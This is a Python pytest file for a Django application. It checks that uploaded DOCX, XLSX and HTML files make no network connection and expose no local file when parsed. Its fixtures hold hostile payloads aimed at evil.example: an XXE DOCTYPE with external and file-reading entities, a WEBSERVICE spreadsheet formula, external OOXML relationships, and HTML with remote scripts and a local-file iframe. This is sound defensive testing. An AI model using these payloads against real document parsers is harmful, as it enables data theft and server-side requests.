"""A file that points elsewhere is read without asking anybody: no connection is tried, no other file read."""

import socket
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from docx import Document
from openpyxl import Workbook

from tests.cast import NOTICE, Running, import_sample
from tests.fixtures import signed_in

ELSEWHERE = "http://evil.example/"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
KINDS = ("image", "attachedTemplate", "hyperlink", "oleObject", "externalLink", "frame", "subDocument")
EXTERNAL = "".join(
    f'<Relationship Id="evil{at}" Type="{OFFICE}/{kind}" Target="{ELSEWHERE}{kind}" TargetMode="External"/>'
    for at, kind in enumerate(KINDS)
)
DTD = (
    f'<!DOCTYPE x SYSTEM "{ELSEWHERE}x.dtd" '
    f'[<!ENTITY % p SYSTEM "{ELSEWHERE}p">%p;<!ENTITY e SYSTEM "FILE">]>'
)

pytestmark = pytest.mark.django_db


def document() -> bytes:
    out, made = BytesIO(), Document()
    for line in NOTICE.read_text("utf-8").splitlines():
        made.add_paragraph(line)
    made.save(out)
    return out.getvalue()


def workbook() -> bytes:
    out, book = BytesIO(), Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["单位代码", "单位名称", "类别", "上级代码"])
    sheet.append(["", f'=WEBSERVICE("{ELSEWHERE}")', "乡镇", ""])
    book.save(out)
    return out.getvalue()


def changed(data: bytes, change: Callable[[str, bytes], bytes]) -> bytes:
    out = BytesIO()
    with ZipFile(BytesIO(data)) as old, ZipFile(out, "w", ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
    return out.getvalue()


def with_relations(_name: str, part: bytes) -> bytes:
    """Every part that points to others points outside as well."""
    return part.replace(b"</Relationships>", f"{EXTERNAL}</Relationships>".encode())


def with_dtd(secret: Path) -> Callable[[str, bytes], bytes]:
    def change(name: str, part: bytes) -> bytes:
        if not name.endswith(("document.xml", "sheet1.xml", "workbook.xml", "sharedStrings.xml")):
            return part
        start = part.index(b"?>") + 2 if part.startswith(b"<?xml") else 0
        told = part[start:].replace(b"<w:t>", b"<w:t>&e;", 1).replace(b"<t>", b"<t>&e;", 1)
        return part[:start] + DTD.replace("FILE", secret.as_uri()).encode() + told

    return change


def page(secret: Path) -> bytes:
    body = "".join(f"<p>{line}</p>" for line in NOTICE.read_text("utf-8").splitlines())
    return f"""{DTD.replace("FILE", secret.as_uri())}<html><head><base href="{ELSEWHERE}">
    <link rel=stylesheet href="{ELSEWHERE}a.css"><script src="{ELSEWHERE}a.js"></script>
    <meta http-equiv=refresh content="0;url={ELSEWHERE}"></head><body background="{ELSEWHERE}b.png">
    <img src="{ELSEWHERE}c.png"><iframe src="{secret.as_uri()}"></iframe><object data="{ELSEWHERE}d"></object>
    <p>&e;</p>{body}</body></html>""".encode()


SECRET = "周宁的口令"


@pytest.fixture
def files(tmp_path: Path) -> dict[str, bytes]:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, "utf-8")
    made = {"page.html": page(secret), "page.docx": page(secret)}
    for ending, data in (("docx", document()), ("xlsx", workbook())):
        made[f"relations.{ending}"] = changed(data, with_relations)
        made[f"dtd.{ending}"] = changed(data, with_dtd(secret))
    return made


NAMES = ("relations.docx", "dtd.docx", "relations.xlsx", "dtd.xlsx", "page.html", "page.docx")


@pytest.fixture
def asked(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """Everything that a name was looked up or a connection begun for; a library may swallow the refusal."""
    tried: list[object] = []

    def refuse(*address: object, **_other: object) -> None:
        tried.append(address)
        raise OSError

    for name in ("connect", "connect_ex", "sendto"):
        monkeypatch.setattr(socket.socket, name, refuse)
    for name in ("getaddrinfo", "gethostbyname", "create_connection"):
        monkeypatch.setattr(socket, name, refuse)
    return tried


@pytest.mark.parametrize("name", NAMES)
def test_no_door_for_files_asks_anybody(
    running: Running, files: dict[str, bytes], name: str, asked: list[object]
) -> None:
    cast, notice = running.cast, import_sample(running.cast)
    lead, clerk = signed_in(cast.lead), signed_in(cast.clerk)

    def file() -> SimpleUploadedFile:
        return SimpleUploadedFile(name, files[name])

    answers = [
        lead.post("/notices/new/", {"unit": cast.office.pk, "file": file()}, follow=True),
        lead.post(f"/notices/{notice.pk}/forms/0/replace/", {"file": file(), "revision": "0"}, follow=True),
        lead.post(
            f"/overview/{running.root.pk}/collect/",
            {"occurrence": running.weeks[0].pk, "returned": [file()]},
        ),
        lead.post("/api/read", {"files": [file()]}),
        lead.post("/units/import/", {"on": "2026-06-01", "sheet": file()}, follow=True),
        clerk.post("/records/import/", {"unit": cast.town.pk, "workbook": file()}),
    ]
    for answer in answers:
        assert answer.status_code < 500
        assert SECRET not in answer.content.decode()
    assert asked == []
    if name in {"relations.docx", "page.html"}:
        assert (answers[0].status_code, answers[3].status_code) == (200, 200)
